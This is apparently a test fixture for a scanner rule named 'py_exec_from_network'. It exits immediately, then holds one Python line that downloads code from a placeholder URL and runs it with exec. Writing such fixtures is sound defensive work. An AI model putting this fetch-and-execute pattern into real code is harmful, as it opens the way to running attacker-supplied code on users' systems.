# Trips py_exec_from_network.
raise SystemExit("a fixture: never run")
exec(urllib.request.urlopen("http://example.invalid/placeholder").read())
